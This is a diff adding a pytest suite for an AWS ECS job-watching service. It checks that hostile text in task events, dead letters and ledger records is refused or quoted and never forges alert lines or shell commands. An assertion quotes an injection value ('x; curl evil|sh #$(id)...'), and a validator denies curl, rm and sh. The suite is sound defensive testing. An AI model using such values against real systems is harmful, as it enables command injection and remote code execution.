@@ -1,0 +1,329 @@
+"""Text from outside never becomes a line, a command or an escape: not in a message, and not in the function's log."""
+
+from __future__ import annotations
+
+import copy
+import json
+import shlex
+from dataclasses import replace
+from datetime import timedelta
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tests.hostile import HOSTILE, is_seen
+from tests.unit.watch.told import TEXT, TICK, nightly
+from tests.unit.watch.world import CLUSTER, GROUP, EcsTask, World, letter
+from watch import handler, outside
+from watch import task as tasks
+from watch.look import LookError
+from watch.records import JobRecord, Message, OpenRun, RecordError, Run, Tick
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+TITLES = (
+    *("Stack: ", "Tick: ", "Ran: ", "Exit code: ", "AWS says: ", "Before: ", "Probably: ", "Jobs: ", "Owner: "),
+    *("Severity: ", "Not known: ", "  ", "https://"),
+    *("Last lines of its log (values of environment variables are hidden):", "Not told before:"),
+)
+FAILED = ("id", "alert", "failed", "report", TEXT)
+"""The first fields of a message."""
+COMMANDS = ("Look:", "Stop it:", "Run it again:")
+OTHERS = ("Log:", "Runbook:")
+CHATS = ("*Tick* ", "*Ran* ", "*AWS says* `", "*Probably* ", "*Owner* ", "*Not told before* ")
+FENCE = "```"
+
+
+def leaves(value: object, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    """Find the path of every value that is no container."""
+    if isinstance(value, dict):
+        for name in value:
+            yield from leaves(value[name], (*path, name))
+    elif isinstance(value, list):
+        for index, one in enumerate(value):
+            yield from leaves(one, (*path, index))
+    else:
+        yield path
+
+
+def replaced(value: Any, path: tuple[Any, ...], by: object) -> Any:  # noqa: ANN401 - JSON
+    """Copy a value, with another leaf."""
+    made = copy.deepcopy(value)
+    place = made
+    for part in path[:-1]:
+        place = place[part]
+    place[path[-1]] = by
+    return made
+
+
+def check_command(command: str) -> None:
+    """Expect one command, of this program or the AWS CLI, in which a shell finds no other."""
+    assert is_seen(command)
+    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
+    lexer.whitespace_split = True
+    assert not [word for word in lexer if word and set(word) <= set("();<>|&")]
+    assert "$(" not in command.replace("'", "")
+    words = shlex.split(command)
+    assert words[0] == "aws" or words[:4] == ["python", "-m", "ops", "rerun"]
+    assert not {"curl", "rm", "sh", "#"} & set(words)
+
+
+def check_email(text: str) -> None:
+    """Expect no line that the program has not begun."""
+    assert is_seen(text, "\n")
+    summary, *lines = text.splitlines()
+    assert summary.startswith(("nightly-report ", "hourly "))
+    for before, line in zip([summary, *lines], lines, strict=False):
+        if before in COMMANDS:
+            check_command(line)
+        elif line and line not in (*COMMANDS, *OTHERS):
+            assert line.startswith(TITLES), line
+
+
+def check_chat(notification: dict[str, Any]) -> None:
+    """Expect no link, no mention and no line of somebody else's in what a chat shows."""
+    shown = [notification["content"]["title"], notification["content"]["description"]]
+    for line in (line for text in shown for line in text.splitlines()):
+        assert is_seen(line)
+        assert "<" not in line
+    before, *fenced = notification["content"]["description"].split(f"{FENCE}\n")
+    assert all(line.startswith(CHATS) for line in before.splitlines()), before
+    assert [part.count(FENCE) for part in fenced] in ([], [1]), fenced
+    assert all(part.endswith(FENCE) for part in fenced)
+    for step in notification["content"]["nextSteps"]:
+        title, _, value = step.partition(": ")
+        assert title in ("Log", "Runbook", "Run it again", "Stop it", "Look")
+        if value.startswith("`"):
+            check_command(value.strip("`"))
+
+
+def check(world: World, printed: str) -> None:
+    """Look at all that the world was told, and at all that the function printed."""
+    for request in world.account.published:
+        assert request["Subject"].isascii()
+        assert request["Subject"].isprintable()
+        bodies = json.loads(request["Message"])
+        check_email(bodies["email"])
+        check_chat(json.loads(bodies["https"]))
+        contract = json.loads(bodies["default"])
+        for path in leaves(contract):
+            value: Any = contract
+            for part in path:
+                value = value[part]
+            assert not isinstance(value, str) or is_seen(value), path
+        for command in filter(None, (contract["rerun"], contract["stop"], contract["proof"])):
+            check_command(command)
+        for attribute in request["MessageAttributes"].values():
+            assert all(is_seen(one) for one in json.loads(attribute["StringValue"]))
+    for line in printed.split("\n"):
+        assert is_seen(line)
+        if line.startswith("{"):
+            assert json.loads(line)["_aws"]["CloudWatchMetrics"][0]["Namespace"] == "ScheduledJobs"
+        else:
+            assert line.startswith(("| ", "arn:aws:ecs:")) or not line
+
+
+def failed(world: World) -> tuple[dict[str, Any], dict[str, Any]]:
+    """Have the nightly task fail; give its last event, and what DescribeTasks tells."""
+    task = nightly()
+    world.now = TICK
+    task.moved("PROVISIONING", world.now)
+    task.moved("RUNNING", world.now)
+    event = task.stopped(world.now + timedelta(minutes=1), 3)
+    event["containers"][0]["reason"] = "OutOfMemoryError"
+    return event, task.described()
+
+
+def hostile_events() -> Iterator[tuple[tuple[Any, ...], object]]:
+    """Give each field of an event with something hostile in its place."""
+    event, _ = failed(World())
+    for path in leaves(event):
+        yield path, HOSTILE
+    yield ("group",), f"{GROUP}:{HOSTILE}"
+    yield ("group",), f"{GROUP}:nightly-report\n"
+    yield ("taskArn",), f"{event['taskArn']};id"
+
+
+def hostile_letters() -> Iterator[dict[str, Any]]:
+    """Give a dead letter with something hostile in each place, attributes and request."""
+    given = letter("nightly-report", TICK, RETRY_ATTEMPTS="3", EXHAUSTED_RETRY_CONDITION="MaximumRetryAttempts")
+    for path in leaves({"messageAttributes": given["messageAttributes"], "attributes": given["attributes"]}):
+        yield replaced(given, path, HOSTILE)
+    name = given["messageAttributes"]["SCHEDULE_ARN"]["stringValue"]
+    yield replaced(given, ("messageAttributes", "SCHEDULE_ARN", "stringValue"), f"{name}{HOSTILE}")
+    pairs = [{"Name": "A", "Value": "b" * 9}, {"Name": "JOB_SCHEDULE", "Value": "nightly-report"}]
+    body = {"Overrides": {"ContainerOverrides": [{"Name": "app", "Environment": pairs}]}}
+    for path in leaves(body):
+        text = json.dumps(replaced(body, path, HOSTILE))
+        yield {**given, "body": text}
+        without = {k: v for k, v in given["messageAttributes"].items() if k not in ("SCHEDULE_ARN", "SCHEDULED_TIME")}
+        yield {**given, "body": text, "messageAttributes": without}
+    yield {**given, "body": HOSTILE}
+    yield {**given, "messageId": HOSTILE, "messageAttributes": {}}
+
+
+HOSTILE_EVENTS, HOSTILE_LETTERS = list(hostile_events()), list(hostile_letters())
+
+
+@pytest.mark.parametrize(("path", "text"), HOSTILE_EVENTS, ids=map(str, range(len(HOSTILE_EVENTS))))
+def test_events(path: tuple[Any, ...], text: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """Whatever a field of an event holds, it is refused in one line, or it is shown as text."""
+    world = World()
+    event, described = failed(world)
+    world.account.described[event["taskArn"]] = described
+    refusals = []
+    try:
+        world.watch.take_event(replaced(event, path, text))
+    except ValueError as error:
+        refusals.append(str(error))
+    assert all(map(is_seen, refusals))
+    world.account.described = {arn: replaced(task, path, text) for arn, task in world.account.described.items()}
+    world.pass_time(minutes=10)
+    check(world, capsys.readouterr().out)
+
+
+@pytest.mark.parametrize("place", ["name", "value"])
+@pytest.mark.parametrize("index", range(4))
+def test_environments(index: int, place: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """A task's variables are chosen by whoever runs it: a schedule that is none is reported as unknown, and quoted."""
+    world = World()
+    event, described = failed(world)
+    path = ("overrides", "containerOverrides", 0, "environment", index, place)
+    world.account.described[event["taskArn"]] = replaced(described, path, HOSTILE)
+    world.account.lines = [f"at {HOSTILE}", HOSTILE]
+    world.watch.take_event(event)
+    [alert] = world.alerts()
+    assert alert["job"] == "nightly-report"
+    if (index, place) == (1, "value"):
+        [unknown] = [one for one in alert["missing"] if one.startswith("the schedule")]
+        assert unknown.startswith(r"the schedule (the task's JOB_SCHEDULE is 'x; curl evil|sh #$(id)`id`\r\n\nRun it")
+        assert unknown.endswith("which is not a schedule of nightly-report)")
+        assert alert["tick"] == TEXT
+    check(world, capsys.readouterr().out)
+
+
+@pytest.mark.parametrize(
+    "field", ["taskArn", "clusterArn", "taskDefinitionArn", "lastStatus", "stopCode", "version", "group", "createdAt"]
+)
+def test_refused_where_it_enters(field: str) -> None:
+    """What ECS never writes is refused before anything is recorded."""
+    world = World()
+    event, described = failed(world)
+    world.account.described[event["taskArn"]] = described
+    with pytest.raises(ValueError, match="x; curl evil"):
+        world.watch.take_event({**event, field: HOSTILE})
+    assert world.ledger.all_ticks() == {}
+
+
+@pytest.mark.parametrize("schedule", [HOSTILE, "nightly-report.x;y", "nightly-report\n", "--help", ""])
+def test_schedules_that_are_none(schedule: str) -> None:
+    """A dead letter of no schedule comes again; the schedule of a task that names none is unknown."""
+    world = World()
+    world.now = TICK + timedelta(minutes=5)
+    given = letter("nightly-report", TICK)
+    arn = given["messageAttributes"]["SCHEDULE_ARN"]["stringValue"].removesuffix("nightly-report")
+    told = replaced(given, ("messageAttributes", "SCHEDULE_ARN", "stringValue"), arn + schedule)
+    assert handler._not_taken(world.watch, [told]) == ["1"]
+    assert world.ledger.all_ticks() == {}
+    _, described = failed(world)
+    path = ("overrides", "containerOverrides", 0, "environment", 1, "value")
+    assert tasks.origin(replaced(described, path, schedule), "nightly-report") == tasks.Origin(
+        "nightly-report", "", "app", outside.quoted(schedule)
+    )
+    named = replaced(described, ("overrides", "containerOverrides", 0, "name"), f"a{schedule};")
+    assert tasks.origin(named, "nightly-report") == tasks.Origin("nightly-report", TEXT, "")
+
+
+def test_schedule_of_another_job(capsys: pytest.CaptureFixture[str]) -> None:
+    """A task of one job cannot speak for a tick of another one."""
+    world = World()
+    event, _ = failed(world)
+    world.account.described[event["taskArn"]] = EcsTask("hourly", TICK, state=event).described() | {
+        "group": event["group"]
+    }
+    world.watch.take_event(event)
+    [alert] = world.alerts()
+    assert (alert["job"], alert["schedule"]) == ("nightly-report", "nightly-report")
+    assert ("hourly", TEXT) not in world.ledger.all_ticks()
+    check(world, capsys.readouterr().out)
+
+
+@pytest.mark.parametrize("given_letter", HOSTILE_LETTERS, ids=map(str, range(len(HOSTILE_LETTERS))))
+def test_dead_letters(given_letter: dict[str, Any], capsys: pytest.CaptureFixture[str]) -> None:
+    """A dead letter is alerted as text, or comes again, with a reason in the log that forges no line of it."""
+    world = World()
+    world.now = TICK + timedelta(minutes=5)
+    handler._not_taken(world.watch, [given_letter])
+    check(world, capsys.readouterr().out)
+
+
+def test_records_of_somebody_else(capsys: pytest.CaptureFixture[str]) -> None:
+    """A record that the watch did not write stops the look at its job, and at no other."""
+    world = World()
+    world.ledger.unreadable["hourly"] = RecordError(f"{outside.quoted(HOSTILE)} is not a schedule's name")
+    world.ledger.unreadable[HOSTILE] = RecordError("no")
+    world.account.listed = {
+        name: replace(one, enabled=name == "nightly-report") for name, one in world.account.listed.items()
+    }
+    world.now = TICK + timedelta(minutes=30)
+    with pytest.raises(LookError) as failure:
+        world.look()
+    assert is_seen(str(failure.value))
+    assert "hourly" in str(failure.value)
+    check(world, capsys.readouterr().out)
+
+
+@pytest.mark.parametrize(
+    "record",
+    [
+        JobRecord("report", open={"0a": OpenRun(HOSTILE, CLUSTER, "report", TEXT, TEXT)}),
+        JobRecord("report", open={"0a": OpenRun(EcsTask("report", TICK).arn, CLUSTER, HOSTILE, TEXT, TEXT)}),
+        JobRecord("report", open={"0a": OpenRun(EcsTask("report", TICK).arn, HOSTILE, "report", TEXT, TEXT)}),
+        JobRecord("report", open={"0a": OpenRun(EcsTask("report", TICK).arn, CLUSTER, "report", TEXT, HOSTILE)}),
+        JobRecord("report", trouble={"report": HOSTILE}),
+        JobRecord("report", trouble={HOSTILE: TEXT}),
+        JobRecord("report", outbox=[Message("id", "alert", "failed", HOSTILE, TEXT)]),
+        JobRecord("report", outbox=[Message("id", "alert", "failed", "report", HOSTILE)]),
+        JobRecord("report", outbox=[Message("id", "alert", HOSTILE, "report", TEXT)]),
+        JobRecord("report", outbox=[Message("id", HOSTILE, "failed", "report", TEXT)]),
+        JobRecord(
+            "report", outbox=[Message("id", "alert", "failed", "report", TEXT, about=[[HOSTILE, TEXT, "failed"]])]
+        ),
+        JobRecord("report", outbox=[Message("id", "alert", "failed", "report", TEXT, jobs=[HOSTILE])]),
+        Tick("report", HOSTILE, TEXT),
+        Tick("report", "report", HOSTILE),
+        Tick("report", "report", TEXT, outcome=HOSTILE),
+        Tick("report", "report", TEXT, runs={"0a": Run(HOSTILE, 1, "STOPPED")}),
+        Tick("report", "report", TEXT, runs={"0a": Run(EcsTask("report", TICK).arn, 1, HOSTILE)}),
+        Tick("report", "report", TEXT, runs={"0a": Run(EcsTask("report", TICK).arn, 1, "STOPPED", definition=HOSTILE)}),
+        Tick("report", "report", TEXT, runs={"0a": Run(EcsTask("report", TICK).arn, 1, "STOPPED", started=HOSTILE)}),
+    ],
+)
+def test_records_are_read_with_care(record: JobRecord | Tick) -> None:
+    """Names and instants of the ledger are checked where they are read."""
+    with pytest.raises(RecordError) as refused:
+        type(record).from_plain(json.loads(json.dumps(record.to_plain())), 1)
+    assert is_seen(str(refused.value))
+
+
+@given(st.text() | st.text(st.characters(categories=["Cc", "Cf", "Cs", "Zl", "Zp"])))
+def test_visible(text: str) -> None:
+    """Nothing unseen is left, what is seen stays, and what was made visible stays as it is."""
+    shown = outside.visible(text)
+    assert is_seen(shown)
+    assert is_seen(text) is (shown == text)
+    assert outside.visible(shown) == shown
+    assert is_seen(outside.visible(text, keep="\n"), "\n")
+    assert outside.visible(text, keep="\n").count("\n") == text.count("\n")
+    assert is_seen(outside.quoted(text))
+    assert len(outside.quoted(text)) <= outside.LONGEST_QUOTE + 3
+    assert all(line.startswith("| ") for line in outside.logged(text).splitlines())
+
+
+def test_written_out() -> None:
+    """The characters are written as programmers know them."""
+    assert outside.visible("a\r\n\t\x1b[0m\u202e\u2028\ud800é😀") == r"a\r\n\t\x1b[0m\u202e\u2028\ud800é😀"
+    assert outside.quoted("it's") == r"'it\'s'"
